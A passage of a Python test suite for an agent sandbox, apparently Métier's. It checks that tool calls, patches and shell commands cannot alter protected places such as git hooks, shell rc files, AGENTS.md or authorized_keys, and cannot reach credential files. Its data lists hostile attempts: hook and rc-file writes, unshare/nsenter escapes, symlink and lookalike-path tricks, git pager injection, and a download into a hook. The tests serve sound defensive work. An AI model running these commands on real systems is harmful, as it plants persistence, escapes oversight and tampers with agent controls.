"""Attacks on protected places: what docs/explanation/sandbox.md promises, tried from outside by every way to write.

- No tool and no job writes to a protected place, by any name that leads there, unless a policy grants that name.
- Keys, tokens and the store are hidden, not only read-only.

A case is lost if a snapshot of all protected places, with every link followed, is another one afterwards, or if what is
hidden comes back.
"""

# ruff: noqa: E501, RUF001  (an attempt is a line, and some are made of letters that look like others)

from __future__ import annotations

import contextlib
import functools
import itertools
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest
from tests.protected import content, project, repository, snapshot, write

from metier import Library, Policy, Session
from metier.cli import main
from metier.errors import FileRefused, MetierError
from metier.run import NativeRunner
from metier.run.native.runner import why_not, works
from metier.tools import Executor, ToolResult, Workspace

pytestmark = pytest.mark.covers("SEC-1")

SKILL = "---\nname: work\ndescription: Works.\n---\nWork.\n"
REFUSALS = ("protected-place", "file-refused")
IS_ROOT = not hasattr(os, "geteuid") or os.geteuid() == 0
TIERS = ("namespaces", "landlock") if IS_ROOT else ("namespaces", "landlock", "bubblewrap")

# Paths as tools name them; {root} is the project.
PATHS = [
    # git
    ".git", ".git/hooks/post-checkout", ".git/hooks/pre-commit", ".git/config", ".git/config.worktree", ".git/index",
    ".git/info/attributes", ".git/commondir", ".git/modules/mod/config", ".git/modules/mod/hooks/x",
    ".git/worktrees/wt/config.worktree", ".git/worktrees/wt/commondir", ".git/rebase-merge/git-rebase-todo",
    ".gitmodules", ".gitconfig", "sub/.git/config", "sub/.git/hooks/x", "mod/.git", "wt/.git", "new/.git",
    "new/.git/config", "bare/config", "bare/hooks/update", "half/config", "half/refs/heads/main", "half/commondir",
    "anything/HEAD", "team-hooks/pre-commit", "team-hooks/post-commit", "team.inc", ".config/git/config",
    ".githooks/x", ".husky/_/husky.sh", ".pre-commit-config.yaml", "lefthook.yml", ".overcommit.yml", ".hg/hgrc",
    ".svn/x", ".jj/repo/config.toml",
    # shells
    ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".bashrc.d/x.sh", ".profile", ".zshrc",
    ".zprofile", ".zshenv", ".zlogin", ".cshrc", ".kshrc", ".inputrc", ".xprofile", ".xsessionrc", ".pam_environment",
    ".envrc", "deep/er/.envrc", ".direnv/x", ".mise.toml", "mise.toml", ".tmux.conf", ".screenrc", ".curlrc",
    ".wgetrc", ".psqlrc", ".sqliterc", ".config/fish/conf.d/x.fish", ".config/systemd/user/x.service",
    ".config/autostart/x.desktop", ".config/environment.d/x.conf", ".config/direnv/direnvrc", ".local/bin/git",
    ".ssh/authorized_keys", ".ssh/rc", ".gnupg/gpg.conf", "Library/LaunchAgents/x.plist",
    # editors and debuggers
    ".vscode/tasks.json", "deep/.vscode/tasks.json", ".idea/workspace.xml", ".zed/tasks.json", ".fleet/run.json",
    ".devcontainer/devcontainer.json", ".devcontainer.json", ".vimrc", ".exrc", ".lvimrc", ".nvim.lua", ".nvimrc",
    ".vim/plugin/x.vim", ".config/nvim/init.lua", ".emacs", ".emacs.d/init.el", ".dir-locals.el",
    ".helix/config.toml", ".config/Code/User/tasks.json", ".gdbinit", ".lldbinit", ".pdbrc",
    # agents
    ".metier/policy.yaml", ".metier/agents/x.md", ".metier/skills/x/SKILL.md", ".claude/settings.json",
    ".claude/skills/n/SKILL.md", ".agents/skills/n/SKILL.md", ".codex/config.toml", ".cursor/mcp.json", ".cursorrules",
    ".gemini/settings.json", "GEMINI.md", "AGENTS.md", "deep/AGENTS.md", "docs/CLAUDE.md", "CLAUDE.local.md",
    ".mcp.json", ".windsurfrules", ".clinerules", ".roo/mcp.json", ".kiro/settings/mcp.json", ".continue/config.json",
    ".opencode/x.json", "opencode.json", ".aider.conf.yml", ".github/copilot-instructions.md", ".github/hooks/x.json",
    ".config/goose/config.yaml", ".config/metier/policy.yaml",
    # package managers, interpreters and build machines
    ".npmrc", ".yarnrc.yml", ".yarn/releases/yarn.cjs", ".pnpmfile.cjs", "bunfig.toml", ".cargo/config.toml",
    ".cargo/bin/cargo", ".mvn/jvm.config", ".mvn/extensions.xml", ".gradle/init.d/x.gradle", ".m2/settings.xml",
    ".bazelrc", ".bundle/config", ".rspec", ".irbrc", ".Rprofile", ".pythonrc", ".ipython/profile_default/startup/0.py",
    ".config/pip/pip.conf", "sitecustomize.py", "usercustomize.py", ".github/workflows/ci.yml",
    "deep/.github/workflows/x.yml", ".github/actions/x/action.yml", ".gitlab-ci.yml", ".circleci/config.yml",
    ".travis.yml", ".drone.yml", ".woodpecker.yml", ".buildkite/pipeline.yml", ".forgejo/workflows/x.yml",
    ".gitea/workflows/x.yml", "Jenkinsfile", "azure-pipelines.yml", "bitbucket-pipelines.yml", "cloudbuild.yaml",
]  # fmt: skip
# The same places by other spellings, by links, and by another name.
LED = [
    ".GIT/hooks/x", ".Git/config", "agents.MD", ".VSCode/tasks.json", ".vſcode/tasks.json", ".git./config",
    ".git /config", ".git::$INDEX_ALLOCATION/config", "GIT~1/config", ".g\u200cit/config", ".git\\config",
    "./.git//hooks/../hooks/x", "docs/../.git/config", ".git/../.git/hooks/x", "./././.git/./config", "{root}/.git/config",
    "//{root}/.git/config", "/proc/self/cwd/.git/config", "../project/.git/config", "git-by-link/config",
    "git-by-link/hooks/x", "hooks-by-link/x", "hooks-by-two/x", "agents-by-link", "vs/tasks.json", "vs-by-link/x",
    "env/envrc", "second-name.txt", "docs/../hooks-by-two/x", "out/../project/.envrc", "../.bashrc",
    "{root}/../.ssh/authorized_keys", "../.config/git/config", "out/notes.md", "../notes.md", "~/.bashrc",
]  # fmt: skip


def v4a(*lines: str) -> dict[str, Any]:
    return {"input": "\n".join(("*** Begin Patch", *lines, "*** End Patch"))}


# How a patch may name a path.
PATCHES: dict[str, Callable[[str], dict[str, Any]]] = {
    "added": lambda path: v4a(f"*** Add File: {path}", "+evil"),
    "changed": lambda path: v4a(f"*** Update File: {path}", "@@", "-one", "+evil"),
    "deleted": lambda path: v4a(f"*** Delete File: {path}"),
    "moved there": lambda path: v4a("*** Update File: docs/a.md", f"*** Move to: {path}", "@@", "-one", "+evil"),
    "moved away": lambda path: v4a(f"*** Update File: {path}", "*** Move to: docs/b.md", "@@", "-one", "+evil"),
    "second of two": lambda path: v4a("*** Add File: docs/b.md", "+fine", f"*** Add File: {path}", "+evil"),
    "spaces": lambda path: {"input": f"*** Begin Patch\r\n*** Add File:  {path} \r\n+x\r\n*** End Patch"},
    "operation": lambda path: {"operation": {"type": "create_file", "path": path, "diff": "+evil"}},
    "operations": lambda path: {"operations": [{"type": "delete_file", "path": path}]},
    "operation that moves": lambda path: {
        "operation": {"type": "update_file", "path": "docs/a.md", "diff": "", "move_to": path}
    },
    "JSON": lambda path: {"input": json.dumps({"type": "delete_file", "path": path})},
    "unified": lambda path: {"input": f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-one\n+evil\n"},
    "unified, new": lambda path: {"input": f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+evil\n"},
    "unified without folders": lambda path: {"patch": f"--- {path}\t2026-01-01\n+++ {path}\n@@ -1 +1 @@\n-one\n+e\n"},
    "renamed by git": lambda path: {
        "patch": f"diff --git a/docs/a.md b/{path}\nsimilarity index 100%\nrename from docs/a.md\nrename to {path}\n"
    },
}

HOOK = ".git/hooks/x"
# Tools of frameworks and servers, by their arguments.
ARGUMENTS = [
    "path", "file_path", "filePath", "file", "filename", "file_name", "name", "where", "target", "target_file", "dest",
    "destination", "dst", "to", "output", "out", "output_path", "location", "uri", "url", "document", "doc", "key",
    "item", "entry", "relative_path", "full_path", "resource", "notebook_path", "new_path", "save_to", "outfile",
    "fname", "node", "object", "id", "into", "at", "p", "f", "arg1", "input", "pathname", "address", "directory",
]  # fmt: skip
TOOLS = [
    "save", "store", "put", "upload", "download", "append", "insert", "replace", "str_replace_editor", "edit", "modify",
    "update", "patch", "create", "touch", "mkdir", "overwrite", "delete", "unlink", "rm", "move", "rename", "copy",
    "symlink", "chmod", "truncate", "extract", "export", "persist", "commit_file", "render", "scaffold", "clone",
    "sync", "checkout", "restore", "format", "fix", "apply", "applyPatch", "writeTextFile", "fs_write", "FileWrite",
    "filesystem-write", "fetch_to_file", "convert", "saveAs", "log_to", "merge", "refactor", "swap", "trash",
    "archive", "emit", "print_to", "mcp__fs__write_file", "mcp__fs__create_directory",
]  # fmt: skip
FOREIGN: list[tuple[str, dict[str, Any]]] = [
    *(("write_file", {name: HOOK, "content": "x"}) for name in ARGUMENTS),
    *((tool, {"path": HOOK}) for tool in TOOLS),
    ("write_file", {"args": {"path": HOOK}}),
    ("write_file", {"request": {"file": {"path": HOOK}}}),
    ("write_file", {"operations": [{"op": "create", "path": HOOK}]}),
    ("write_file", {"path": [".git", "hooks", "x"]}),
    ("write_file", {"paths": ["ok", HOOK]}),
    ("write_file", {"targets": ["ok", HOOK]}),
    ("write_file", {"path": {"uri": "file://{root}/.git/hooks/x"}}),
    ("write_file", {"directory": ".git/hooks", "filename": "x"}),
    ("write_file", {"directory": ".", "filename": "AGENTS.md"}),
    ("write_file", {"root": ".git", "path": "hooks/x"}),
    ("write_file", {"root": "{root}/.git", "path": "config"}),
    ("write_file", {"cwd": ".git", "path": "config"}),
    ("write_file", {"base": ".git", "file": "config"}),
    ("write_file", {"path": "config", "workdir": "{root}/.git"}),
    ("write_file", {"path": "workflows/ci.yml", "working_directory": ".github"}),
    ("write_file", {"repo": ".git", "path": "config"}),
    ("write_file", {"repo_path": "sub", "path": ".git/config"}),
    ("write_file", {"folder": ".github/workflows", "name": "ci.yml"}),
    ("write_file", {"path": "%2egit/hooks/x"}),
    ("write_file", {"uri": "file://{root}/%2egit/hooks/x"}),
    ("write_file", {"uri": "file://localhost{root}/.git/hooks/x"}),
    ("write_file", {"path": "'.git/hooks/x'"}),
    ("write_file", {"path": " .git/hooks/x"}),
    ("write_file", {"path": ".git/config\n"}),
    ("write_file", {"path": "$PWD/.git/hooks/x"}),
    ("write_file", {"path": "${HOME}/.bashrc"}),
    ("write_file", {"edits": '[{"path": ".git/hooks/x"}]'}),
    ("write_file", {"payload": '{"path": ".git/hooks/x", "content": "x"}'}),
    ("write_file", {"path": ".git/hooks/*"}),
    ("write_file", {"glob": ".git/**"}),
    ("write_file", {"pattern": "AGENTS.md", "replacement": "x"}),
    ("write_file", {"file": "a.txt", "rename_to": HOOK}),
    ("write_file", {"file": "a.txt", "new_name": "AGENTS.md"}),
    ("write_file", {"path": "a.txt", "options": {"backup": HOOK}}),
    ("write_file", {HOOK: "x"}),
    ("write_file", {"files": {"docs/b.md": "x", "AGENTS.md": {"content": "x"}}}),
    ("write_file", {"files": [[HOOK, "x"]]}),
    ("write_file", {"files": [{"path": "docs/b.md", "content": "x"}, {"path": ".envrc", "content": "x"}]}),
    ("write_file", {"changes": {"documentChanges": [{"textDocument": {"uri": "file://{root}/.git/hooks/x"}}]}}),
    ("write_file", {"path": ".envrc", "text": "x", "command": "view"}),
    ("mcp__fs__edit_file", {"path": ".git/config", "edits": []}),
    ("mcp__fs__move_file", {"source": "a.txt", "destination": HOOK}),
    ("mcp__fs__move_file", {"source": ".git", "destination": "away"}),
    ("copy_file", {"src": "a.txt", "dst": ".vscode/tasks.json"}),
    ("rename", {"from_path": "a.txt", "to": HOOK}),
    ("delete_file", {"path": ".git/config"}),
    ("str_replace_based_edit_tool", {"command": "create", "path": HOOK, "file_text": "x"}),
    ("str_replace_based_edit_tool", {"command": "insert", "path": "AGENTS.md", "insert_line": 0, "insert_text": "x"}),
    ("MultiEdit", {"edits": [{"filePath": "docs/a.md"}, {"filePath": ".git/config"}]}),
    ("NotebookEdit", {"notebook_path": ".vscode/x.ipynb", "new_source": "x"}),
    ("download", {"url": "http://h.example/x", "output": HOOK}),
    ("extract", {"archive": "a.tgz", "dest": ".git/hooks"}),
    ("apply_diff", {"diff": "--- a/x\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n"}),
    ("apply_patch", {"input": 'diff --git "a/\\056git/config" "b/\\056git/config"\nindex 1..2\n'}),
    ("apply_patch", {"input": "*** Begin Patch\n*** Add File: a\u2028*** Add File: .envrc\n+x\n*** End Patch"}),
    ("apply_patch", {**v4a("*** Add File: hooks/x", "+x"), "workdir": ".git"}),
]

# What a command of Bash, or a script, may do.
COMMANDS = [
    "echo evil > .git/hooks/post-checkout; echo evil >> .git/config; echo evil | tee .git/info/attributes",
    "cp a.txt .envrc; cp a.txt .bashrc; dd if=a.txt of=.mcp.json; truncate -s0 .git/config",
    "mv .git g && mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout",
    "rm -rf .git .vscode AGENTS.md .husky .github .claude; mkdir .git; echo evil > AGENTS.md",
    "python3 -c \"import ctypes; ctypes.CDLL(None).renameat2(-100, b'.husky', -100, b'docs', 2)\"",
    "ln -sfn /tmp AGENTS.md; ln -sfn docs .husky; ln -sfn docs .vscode; ln -sf a.txt .git/config",
    "ln AGENTS.md h1 && echo evil > h1; ln .git/hooks/pre-commit h2 && echo evil > h2; ln .husky/pre-commit h3 && echo evil > h3",
    "echo evil > sub/.git/hooks/x; echo evil >> sub/.git/config; mv sub s2; echo evil > s2/.git/config",
    "echo evil > bare/hooks/update; echo evil >> bare/config; mv bare b2; echo evil > b2/config; mv b2 bare",
    "echo evil > .git/modules/mod/hooks/x; echo 'gitdir: ../docs' > mod/.git; rm mod/.git; mkdir mod/.git",
    "echo 'gitdir: docs' > wt/.git; echo evil > .git/worktrees/wt/commondir; rm -rf wt; mkdir wt; echo x > wt/.git",
    "echo evil > team-hooks/pre-commit; echo evil > team-hooks/post-commit; rm -rf team-hooks; mkdir team-hooks",
    "mv team-hooks t2; echo evil > t2/pre-commit; mv t2 team-hooks; cp -r t2 team-hooks",
    "echo '[core]' > team.inc; mv team.inc t; echo evil > team.inc",
    "git config core.pager 'touch evil'; git config core.hooksPath /tmp/x; git config --worktree a.b c",
    "chmod 777 .git/hooks .git/config AGENTS.md team-hooks; chmod +x AGENTS.md .husky/pre-commit",
    "mkdir -p deep/.vscode deep/.claude/skills/x; echo evil > deep/.vscode/tasks.json; echo evil > deep/AGENTS.md",
    "mkdir -p .GIT/hooks .Claude; echo evil > .GIT/hooks/x; echo evil > .ENVRC; echo evil > agents.md",
    "mv .github/workflows .github/w2; mkdir .github/workflows; echo evil > .github/workflows/ci.yml",
    "mv .github g; mkdir -p .github/workflows; echo evil > .github/workflows/ci.yml",
    "mv .husky h2; mkdir .husky; echo evil > .husky/pre-commit",
    "python3 -c \"open('.git/hooks/x', 'w').write('evil')\"; perl -e 'open F, \">.envrc\"; print F \"evil\"'",
    "exec 3<>.git/config; echo evil >&3; exec 3<.git/config; echo evil > /proc/self/fd/3",
    "exec 9<.; cd /proc/self/fd/9; echo evil > .git/config; echo evil > /proc/self/root$PWD/.git/config",
    "sed -i s/one/evil/ AGENTS.md CLAUDE.md .mcp.json .github/workflows/ci.yml",
    "umount .git; umount -l .git; unshare -Urm bash -c 'umount .git; echo evil > .git/config'; echo evil > .git/config",
    "mount -o remount,rw .git; mount --bind docs .git; nsenter -t 1 -m sh -c 'echo evil > .git/config'",
    "git init --template=. .; git init -q sub; git init -q new; git init -q --bare new2; git clone -q sub new3",
    "git worktree add w9; echo evil > w9/.git; git submodule add ./sub s9; git stash; git gc",
    "mkdir -p q/.git/hooks && echo evil > q/.git/hooks/x && tar cf q.tar -C q . && tar xf q.tar; cp -rT q .",
    "printf '.git/hooks/x\\n' | cpio -pdm docs; rsync -a docs/ .git/hooks/; install -m 755 a.txt .git/hooks/x",
    "touch -d 2001-01-01 AGENTS.md; setfattr -n user.x -v y AGENTS.md; chattr +i AGENTS.md; chown 1:1 AGENTS.md",
    "(sleep 0.1; echo evil > .git/hooks/late; echo evil > .envrc) & disown; exit 0",
    "echo evil > git-by-link/config; echo evil > hooks-by-two/x; echo evil > agents-by-link; echo evil > vs-by-link/x",
    "echo evil > vs/tasks.json; rm -rf vs; mkdir vs; echo evil > vs/tasks.json",
    "rm .vscode; mkdir .vscode; echo evil > .vscode/tasks.json",
    "mkdir env; echo evil > env/envrc; mv env e2; mkdir env; mv e2/envrc env/; ln -f env/envrc second",
    "rm .envrc; echo evil > .envrc; ln -sf a.txt .envrc; mv a.txt .envrc",
    "ln -s .git g1; echo evil > g1/config; ln -s . here; echo evil > here/.git/config; echo evil > here/here/.envrc",
    "mkdir -p half/objects half/refs; echo '[core]' > half/config; echo ../docs > half/commondir",
    "mkdir -p n/objects n/refs; echo 'ref: refs/heads/m' > n/HEAD; printf '[core]\\nfsmonitor=x\\n' > n/config",
    "mkdir -p n/.git; mkdir d; mv d/../n/.git d/; cp -r sub/.git docs/.git; cp -r sub docs/",
    "chmod 555 . .git; echo evil > deep/.envrc; chmod 000 deep",
    "mkdir -p .config/fish .config/git .ssh .local/bin .cargo/bin; for f in .config/fish/config.fish .config/git/config"
    " .ssh/rc .local/bin/git .cargo/bin/cargo .npmrc .profile sitecustomize.py Jenkinsfile; do echo evil > $f; done",
    "find . -name '*.md' -exec sh -c 'echo evil > \"$1\"' _ {} \\; ; find . -name config -delete; find . -name hooks -delete",
    "git -c core.hooksPath=x -c core.editor=true commit --allow-empty -m x; git update-ref HEAD x; git hash-object -w a.txt",
    "echo evil > ../.bashrc; echo evil > ../.ssh/authorized_keys; echo evil > ../configuration/trusted; echo evil > ~/.profile",
    "echo 'version: 1' > .metier/policy.yaml; rm -rf .metier; mkdir .metier; echo 'version: 1' > .metier/policy.yaml",
    "patch -p1 <<< $'--- /dev/null\\n+++ b/.bash_profile\\n@@ -0,0 +1 @@\\n+evil'; ed -s AGENTS.md <<< $'1c\\nevil\\n.\\nw'",
    "for i in 1 2 3 4 5; do mkdir -p r$i/.git/hooks; echo evil > r$i/.git/hooks/x; rm -rf r$i; done; mkdir -p r1/.git/x",
]  # fmt: skip

# What the virtual shell brings back to the folder.
# Every third is quick: what is made, removed, moved, has a second name, and is written by a program.
BROUGHT_BACK = [
    "mkdir -p .git/hooks; echo evil > .git/hooks/x; echo evil > AGENTS.md; echo evil > .envrc; echo evil > .ENVRC",
    "mkdir -p deep/.vscode .GIT/hooks; echo evil > deep/.vscode/tasks.json; echo evil > deep/AGENTS.md; echo x > .GIT/hooks/x",
    "echo evil > team-hooks/pre-commit; echo evil > team.inc; mv team-hooks t2; echo evil > env/envrc; mkdir env; echo x > env/envrc",
    "rm -rf .git .vscode .github AGENTS.md .claude .husky team-hooks team.inc bare sub mod wt",
    "echo evil > sub/.git/config; echo evil > bare/config; echo 'gitdir: x' > mod/.git; echo 'gitdir: x' > wt/.git",
    "mv a.txt .bashrc; cp docs/a.md .gitconfig; mkdir -p .ssh .config/fish; echo x > .ssh/rc; echo x > .config/fish/config.fish",
    "mv .github g2; mkdir -p .github/workflows; echo evil > .github/workflows/ci.yml; rm -rf .claude; echo x > .claude",
    "mkdir -p deep/x/.git/objects deep/x/.git/refs; echo 'ref: refs/heads/m' > deep/x/.git/HEAD; echo x > deep/x/.git/config",
    "mkdir -p deep/r/objects deep/r/refs; echo 'ref: refs/heads/m' > deep/r/HEAD; echo x > deep/r/config; echo x > half/config",
    "echo evil > second-name.txt; echo evil > agents-by-link; echo evil > hooks-by-link/x; echo evil > vs/tasks.json",
    "ln -s .git/hooks hk; echo evil > hk/x; rm -f agents-by-link; ln -s .envrc agents-by-link; echo evil > agents-by-link",
    "chmod 777 .git/hooks/pre-commit AGENTS.md; rm -rf .github; ln -s docs .github; rm -rf deep; ln -s ../outside deep; echo x > deep/x",
    "python3 -c \"import os; os.makedirs('.git/hooks', exist_ok=True); open('.git/hooks/x', 'w').write('evil')\"",
]  # fmt: skip


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settled: None) -> Path:
    """A home folder with keys and what is Métier's own, in which there is a project."""
    folder = Path(os.path.realpath(tmp_path)) / "home"
    build_home(folder)
    monkeypatch.setenv("HOME", str(folder))
    for name, place in (("CONFIG", "configuration"), ("DATA", "data"), ("CACHE", "cache")):
        monkeypatch.setenv(f"METIER_{name}", str(folder / place))
    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.chdir(folder / "project")
    return folder


def build_home(folder: Path) -> None:
    project(folder / "project")
    (folder / "none").mkdir()
    for name in SECRETS:
        write(folder / name, "SECRET-canary\n")
    for name in (".bashrc", ".gitconfig", "notes/a.md", "configuration/trusted/x", "cache/x"):
        write(folder / name, "# mine\n")
    write(folder / "skills/work/SKILL.md", SKILL)
    write(folder / "skills/work/scripts/do.sh", 'eval "$1"\n')


SECRETS = (
    ".ssh/id_rsa", "backup/.ssh/id_ed25519", ".gnupg/private-keys-v1.d/k.key", ".netrc", ".aws/credentials",
    ".kube/config", ".docker/config.json", ".git-credentials", ".pgpass", ".pypirc", ".vault-token",
    ".password-store/x.gpg", ".config/gh/hosts.yml", ".config/gcloud/credentials.db", ".azure/accessTokens.json",
    ".local/share/keyrings/login.keyring", "configuration/keys/audit.ed25519", "configuration/mcp-token",
    "data/metier.db-wal", "data/audit/x",
)  # fmt: skip


def session_in(workspace: Path, home: Path, **options: Any) -> Session:
    return Library.from_folder(home / "skills", cache=False).session(workspace=workspace, **options)


@functools.lru_cache(maxsize=1)
def tools_of(session: Session) -> Executor:
    return session.executor(builtin=["Read", "Write", "Edit", "Glob", "Grep"])


def call(session: Session, tool: str, **arguments: Any) -> ToolResult:
    return tools_of(session).execute_blocking(tool, arguments)


def around(session: Session, *calls: tuple[str, dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    """Those of some calls of somebody else's tools that are made."""
    made = []
    executor = session.executor()

    async def call_all() -> None:
        for tool, arguments in calls:

            async def called(one: tuple[str, dict[str, Any]] = (tool, arguments)) -> str:
                made.append(one)
                return "done"

            result = await executor.around(tool, arguments, called)
            assert not isinstance(result, ToolResult) or result.code in ("protected-place", "file-missing")

    anyio.run(call_all)
    return made


def filled(arguments: dict[str, Any], **values: str) -> dict[str, Any]:
    text = json.dumps(arguments)
    for name, value in values.items():
        text = text.replace(f"{{{name}}}", value)
    return dict(json.loads(text))


@functools.cache
def runner(tier: str = "namespaces") -> NativeRunner:
    if not works(tier):  # type: ignore[arg-type]
        pytest.skip(why_not())
    return NativeRunner(tier=tier)  # type: ignore[arg-type]


def bash(session: Session, command: str) -> str:
    result = session.executor(builtin=["Bash"]).execute_blocking("Bash", {"command": command})
    return str(result)


def script(session: Session, command: str) -> str:
    session.load("work")
    outcome = session.run_blocking("scripts/do.sh", [command])
    return f"{outcome.stdout}{outcome.stderr}"


WAYS: dict[str, Callable[[Session, str], str]] = {"Bash": bash, "script": script}


def led(home: Path) -> list[str]:
    return [path.replace("{root}", str(home / "project")) for path in LED]


@pytest.mark.covers("SEC-10")
def test_no_path_that_is_written_leads_to_a_protected_place(home: Path) -> None:
    os.link(home / "project/.git/config", home / "project/second-name.txt")
    session, before = session_in(home / "project", home), around_the_store(home)
    codes = {path: call(session, "Write", file_path=path, content="evil").code for path in (*PATHS, *led(home))}
    assert [path for path, code in codes.items() if code not in REFUSALS] == []
    assert around_the_store(home) == before


@pytest.mark.parametrize("every", [3, pytest.param(1, marks=pytest.mark.slow)])
def test_no_file_of_a_protected_place_is_edited(home: Path, every: int) -> None:
    os.link(home / "project/.git/config", home / "project/second-name.txt")
    for path in PATHS:
        target = Path(os.path.realpath(home / "project" / path))
        with contextlib.suppress(OSError):
            write(target) if not target.exists() else None
    session, before = session_in(home / "project", home), around_the_store(home)
    changes: tuple[dict[str, str], ...] = (
        {"old_string": "one", "new_string": "evil"}, {"patch": "@@ -1 +1 @@\n-one\n+evil\n"}
    )  # fmt: skip
    for path, change in zip((*PATHS, *led(home))[::every], itertools.cycle(changes), strict=False):
        code = call(session, "Edit", file_path=path, **change).code
        assert code in REFUSALS, (path, change)
    assert around_the_store(home) == before


def test_a_workspace_without_a_session_is_closed_as_well(home: Path) -> None:
    before = around_the_store(home)
    for path in PATHS:
        with pytest.raises(FileRefused):
            Workspace(home / "project").write(path, b"evil")
    assert around_the_store(home) == before


@pytest.mark.parametrize("part", [16, pytest.param(1, marks=pytest.mark.slow)])
@pytest.mark.each("form", PATCHES)
def test_no_patch_names_a_protected_place(home: Path, form: str, part: int) -> None:
    with contextlib.suppress(FileExistsError):
        os.link(home / "project/.git/config", home / "project/second-name.txt")
    session = session_in(home / "project", home)
    # What leaves the workspace otherwise is for the tool to refuse.
    named = (*PATHS, *led(home))[list(PATCHES).index(form) % part :: part]
    paths = [path for path in named if not path.endswith("notes.md")]
    assert around(session, *(("apply_patch", PATCHES[form](path)) for path in paths)) == []


def test_no_tool_of_somebody_else_is_called_with_a_protected_place(home: Path) -> None:
    session = session_in(home / "project", home)
    assert around(session, *((tool, filled(one, root=str(home / "project"))) for tool, one in FOREIGN)) == []


SEARCHED = [".git/config", "AGENTS.md", "bare/config", "hooks-by-link/x", "vs/tasks.json", "team-hooks/pre-commit"]


@pytest.mark.each("path", SEARCHED)
def test_no_block_of_search_and_replace_names_a_protected_place(home: Path, path: str) -> None:
    block = f"{path}\n<<<<<<< SEARCH\none\n=======\nevil\n>>>>>>> REPLACE\n"
    assert around(session_in(home / "project", home), ("apply_patch", {"input": block})) == []


PLAYS = [("Bash", "namespaces", command) for command in COMMANDS]
PLAYS += [("script", tier, command) for at, tier in enumerate(TIERS) for command in COMMANDS[at::8]]


@pytest.mark.covers("SEC-3", "SEC-4", "SEC-15")
@pytest.mark.each(("way", "tier", "command"), PLAYS, every=7)
def test_no_job_changes_a_protected_place(home: Path, way: str, tier: str, command: str) -> None:
    restore(home)
    before = judged(home)
    session = session_in(home / "project", home, runner=runner(tier), policy=Policy(script_reads="allow"))
    WAYS[way](session, command)
    opened(home)
    assert judged(home) == before


def restore(home: Path) -> None:
    """Make the project anew."""
    os.chdir(home)
    # To remove it would take longer than everything else.
    (home / "project").rename(home.parent / f"project-{len(os.listdir(home.parent))}")
    project(home / "project")
    os.chdir(home / "project")


def judged(home: Path) -> dict[str, str]:
    """The protected places of the project, and what a job may want beside it."""
    beside = {name: (home / name).read_text() for name in (".bashrc", ".gitconfig", "configuration/trusted/x")}
    return snapshot(home / "project") | beside | content(home / ".ssh")


def around_the_store(home: Path) -> dict[str, str]:
    """Everything in the home folder but for what Métier itself writes."""
    own = (str(home / "data"), str(home / "cache"))
    return {path: state for path, state in content(home).items() if not path.startswith(own)}


def opened(home: Path, but: str = ".set-aside-") -> None:
    """Give the owner the rights back that a job took away, but not to what was set aside."""
    for path, folders, _ in os.walk(home):
        for full in (os.path.join(path, name) for name in folders if not but or but not in name):
            if not os.path.islink(full) and os.stat(full).st_mode & 0o700 != 0o700:
                os.chmod(full, 0o755)


@pytest.mark.covers("SEC-3", "SEC-4")
@pytest.mark.each("command", BROUGHT_BACK, every=3)
def test_nothing_protected_is_brought_back_from_the_virtual_shell(home: Path, command: str) -> None:
    pytest.importorskip("bashkit")
    restore(home)
    before = judged(home)
    main(["--skills", str(home / "none"), "shell", "--workspace", str(home / "project"), "--write-back", "-c", command])
    assert judged(home) == before


WORK = [
    (".config", "git/config"), (".config", "fish/config.fish"), (".config", "systemd/user/x.service"),
    (".config", "autostart/x.desktop"), (".config/git", "config"), (".config/fish", "config.fish"), (".ssh", "config"),
    (".ssh", "authorized_keys"), (".vim", "plugin/x.vim"), (".local", "bin/git"), (".cargo", "config.toml"),
    (".claude", "settings.json"), (".claude", "CLAUDE.md"), (".codex", "config.toml"), (".metier", "policy.yaml"),
    ("configuration", "trusted/x"), ("configuration", "mcp-token"), ("configuration/keys", "audit.ed25519"),
    ("data", "audit/x"), ("p/.git", "config"), ("p/.git", "hooks/x"), ("p/.git/hooks", "x"), ("p/.vscode", "tasks.json"),
    ("p/.claude/skills", "s/SKILL.md"), ("p/.github", "workflows/x.yml"), ("p/.github/workflows", "x.yml"),
    ("p/.husky", "pre-commit"), ("q/team-hooks", "pre-commit"), ("q/team", "hooks/pre-commit"),
    ("q/src", "../.git/hooks/y"), ("q/src", "../team/hooks/pre-commit"),
]  # fmt: skip
"""A workspace that lies in a protected place, or above one, and what is written there."""


WRITES: dict[str, Callable[[Session, str], object]] = {
    "Write": lambda session, path: call(session, "Write", file_path=path, content="evil"),
    "Edit": lambda session, path: call(session, "Edit", file_path=path, old_string="one", new_string="evil"),
    "Bash": lambda session, path: bash(session, f"mkdir -p $(dirname {path}); echo evil > {path}"),
    "script": lambda session, path: script(session, f"mkdir -p $(dirname {path}); echo evil > {path}; rm {path}"),
}


@pytest.mark.each(("workspace", "path", "ways"), [
    (*work, ("Write", "Edit", ("Bash", "script")[at % 2])) for at, work in enumerate(WORK)
], every=5)  # fmt: skip
def test_a_workspace_in_a_protected_place_opens_nothing(
    home: Path, workspace: str, path: str, ways: tuple[str, ...]
) -> None:
    settings = "[core]\n\thooksPath = team/hooks\n[include]\n\tpath = ../team-hooks/pre-commit\n"
    for name in ("p", "q"):
        (home / name / ".git").exists() or repository(home / name / ".git", settings)
    (home / workspace).mkdir(parents=True, exist_ok=True)
    target = Path(os.path.normpath(home / workspace / path))
    for way, is_there in itertools.product(ways, (False, True)):
        target.unlink(missing_ok=True)
        if is_there:
            write(target)
        with contextlib.suppress(MetierError):
            WRITES[way](session_in(home / workspace, home, runner=runner()), path)
        assert (target.read_text() if target.exists() else None) == ("one\n" if is_there else None), (way, is_there)


# What decides about skills, where a variable says that it is in the workspace.
# In an order in which every second, and two of three, have each variable among them.
OWN = [
    ("METIER_CONFIG", "conf", "conf/trusted"), ("METIER_DATA", "data", "data/checkpoints.jsonl"),
    ("METIER_DATA", "data", "data/metier.db"), ("METIER_CONFIG", "conf", "conf/mcp-token"),
    ("METIER_POLICY", "pol.yaml", "pol.yaml"), ("METIER_CONFIG", "conf", "conf/synced"),
